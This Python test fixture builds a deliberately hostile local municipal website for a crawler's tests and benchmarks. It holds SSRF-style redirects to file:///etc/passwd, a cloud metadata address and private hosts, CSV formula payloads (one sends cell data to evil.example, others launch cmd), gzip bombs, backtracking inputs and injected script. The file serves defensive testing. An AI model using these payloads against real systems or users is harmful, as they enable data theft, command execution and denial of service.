"""A hostile municipal website on 127.0.0.1, with a stand-in internal service beside it (issue 14).

Every attack of the review in one site: robots.txt and the Samenwerkende Catalogi link pointing
into the internal network, form links that redirect to file:, ftp: and other ports of this
machine, names that the stub network (``NETWORK``) maps to link-local and private addresses,
titles that are spreadsheet formulas, a gzip sitemap bomb, a decompression bomb, the two inputs
that made the rules' regular expressions backtrack for minutes, a 9.6 MB page with 150,000 links, a
data: link as a form, script text and a direction-changing character in a title.

Used by tests/test_hostile_site.py and tests/benchmarks/hostile.py.
"""

from __future__ import annotations

import gzip
import subprocess
import sys
import time
from dataclasses import dataclass, field
from pathlib import Path

from crawler_testsite import TestSite, html_page, sitemap, sitemap_index
from linkserver import html, serve

# Report the largest memory of any process below the command (RUSAGE_CHILDREN), in KB, on the last line.
_MEASURED = ("import resource, subprocess, sys; code = subprocess.run(sys.argv[1:]).returncode; "
             "print(resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss, file=sys.stderr); sys.exit(code)")
SECRET = "AKIA-GEHEIM-UIT-HET-INTERNE-NETWERK"
NETWORK = "hosts:\n  metadata.test: 169.254.169.254\n  intern.test: 10.0.0.5\ndns: works\n"
FORMULAS = ['=HYPERLINK("https://evil.example/?d="&B1,"Parkeervergunning")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0"]
SECTIONS = ("<h2>Wat is het?</h2><p>Met deze vergunning mag u iets doen in de gemeente. Lees hier hoe het werkt.</p>"
            "<h2>Voorwaarden</h2><p>U woont in de gemeente.</p><h2>Wat kost het?</h2><p>Het kost € 25,-.</p>"
            "<h2>Hoe lang duurt het?</h2><p>U krijgt binnen 2 weken antwoord.</p>"
            "<h2>Contact</h2><p>Bel 14 0123.</p>")


def product(title: str, body: str = "", link: str = "") -> str:
    """A product page: the usual sections, and a button to a form when ``link`` is given."""
    button = f"<p><a class='btn' href='{link}'>Vraag aan</a></p>" if link else ""
    return html_page(f"{title} | Gemeente Vijandig",
                     f"<main><h1>{title}</h1><p>Hier leest u hoe u dit regelt.</p>{button}{body}{SECTIONS}</main>")


@dataclass
class HostileSite:
    """The site and the internal service, serving while used as a context manager."""

    site: TestSite = field(default_factory=TestSite)
    internal: str = ""
    internal_seen: list[str] = field(default_factory=list)
    products: dict[str, str] = field(default_factory=dict)  # path -> what it attacks

    def __enter__(self) -> HostileSite:
        self._internal = serve({path: html(SECRET) for path in ("/", "/latest/meta-data/", "/feed.xml", "/formulier")})
        self.internal, self.internal_seen = self._internal.__enter__()
        self.site.__enter__()
        self._build()
        return self

    def __exit__(self, *exc: object) -> None:
        self.site.__exit__(*exc)
        self._internal.__exit__(*exc)

    @property
    def base(self) -> str:
        """The site's address."""
        return self.site.base

    def write_network(self, folder: Path) -> Path:
        """The stub network file for WMEBV_TEST_NETWORK."""
        path = folder / "vijandig-netwerk.yml"
        path.write_text(NETWORK, encoding="utf-8")
        return path

    def _add(self, path: str, html_text: str, attack: str) -> None:
        self.site.page(path, html_text)
        self.products[path] = attack

    def _build(self) -> None:
        site, internal, base = self.site, self.internal, self.site.base
        site.redirect("/robots.txt", internal + "/latest/meta-data/", status=302)
        head = (f"<link rel='alternate' title='Samenwerkende Catalogi' href='{internal}/feed.xml'>"
                "<link rel='alternate' title='Samenwerkende Catalogi' href='http://metadata.test/feed.xml'>")
        for name, target in (("bestand", "file:///etc/passwd"), ("ftp", f"ftp://127.0.0.1:{internal.rsplit(':', 1)[1]}/"),
                             ("intern", internal + "/formulier")):
            site.redirect(f"/formulier/{name}", target, status=302)
        self._add("/producten/bestand", product("Parkeervergunning", link="/formulier/bestand"), "redirect naar file:")
        self._add("/producten/ftp", product("Ontheffing", link="/formulier/ftp"), "redirect naar ftp:")
        self._add("/producten/intern", product("Standplaatsvergunning", link="/formulier/intern"), "redirect naar een andere poort")
        self._add("/producten/metadata", product("Kapvergunning", link="http://metadata.test/latest/formulier"), "link-local naam")
        self._add("/producten/prive", product("Evenementenvergunning", link="http://intern.test/formulier"), "privé naam")
        self._add("/producten/decimaal", product("Uitritvergunning", link=f"http://2130706433:{internal.rsplit(':', 1)[1]}/"),
                  "127.0.0.1 als getal")
        for number, formula in enumerate(FORMULAS):
            self._add(f"/producten/formule-{number}", product(formula.replace("<", "&lt;")), "formule in CSV")
        euros = "".join(f"<span>{'1' if n == 0 else '000'},</span>" for n in range(25_000))
        self._add("/producten/bedragen", product("Leges", f"<p>{euros}</p>"), "terugzoeken in het bedragpatroon")
        words = "".join("<span>vraag </span>" for _ in range(16_000))
        self._add("/producten/vraag", product("Vergunning", f"<p><a href='/x'>{words}</a></p>"), "terugzoeken in linktekst")
        self._add("/producten/data", product("Gehandicaptenparkeerkaart", link="data:text/html,<form>formulier</form>"),
                  "data: als formulier")
        self._add("/producten/titel", html_page("Titel", "<main><h1>Paspoort<script>document.write('x')</script> "
                                                        "aanvragen\u202e</h1><p>Tekst over het paspoort.</p>"
                                                        f"{SECTIONS}</main>"), "script en U+202E in de titel")
        # 9.6 MB with 150,000 links: just under the crawler's 10 MB limit for one page.
        links = "".join(f"<li><a href='/veel/{n}'>Link nummer {n} naar een pagina</a></li>" for n in range(150_000))
        self._add("/producten/veel-links", product("Veel links", f"<ul>{links}</ul>"), "150.000 links")
        site.raw("/bom", gzip.compress(b"<html><body>" + b" " * (30 * 1024 * 1024)), "text/html",
                 **{"Content-Encoding": "gzip"})
        entries = [f"{base}/p/{n}" for n in range(300_000)]
        site.raw("/sitemap-bom.xml.gz", gzip.compress(sitemap(entries), 6), "application/gzip")
        site.raw("/sitemap-1.xml", sitemap([base + path for path in self.products] + [base + "/bom"]), "application/xml")
        site.raw("/sitemap.xml", sitemap_index([f"{base}/sitemap-1.xml", f"{base}/sitemap-bom.xml.gz"]), "application/xml")
        menu = " ".join(f"<a href='{path}'>{attack}</a>" for path, attack in self.products.items())
        site.page("/", html_page("Gemeente Vijandig", f"<main><h1>Welkom</h1><p>{menu} <a href='/bom'>bom</a> "
                                                     f"<a href='{internal}/geheim'>intern</a> en wat tekst.</p></main>", head))


def measured(args: list[str], cwd: Path, env: dict[str, str]) -> tuple[subprocess.CompletedProcess[str], float]:
    """Run a command; its result and the peak memory (MB) of its largest process."""
    result = subprocess.run([sys.executable, "-c", _MEASURED, *args], cwd=cwd, env=env, capture_output=True, text=True,
                            timeout=900)
    assert result.returncode == 0, result.stdout[-3000:] + result.stderr[-3000:]
    return result, int(result.stderr.strip().splitlines()[-1]) / 1024


def page_seconds(db: Path) -> dict[str, float]:
    """How long the analysis and the rules take for each stored page of crawl 1 (this process, one core)."""
    from audit.analysis import PageContext, analyse, parse, run_rules
    from audit.resources import load_resources
    from wmebv.core.store import Store

    resources = load_resources(None)
    times = {}
    with Store(db) as store:
        for row in store.pages.iterate(1):
            started = time.perf_counter()
            facts = analyse(parse(row["url"], row["html"], resources), PageContext(url=row["url"]), resources)
            run_rules(facts, resources)
            times[row["url"]] = time.perf_counter() - started
    return times
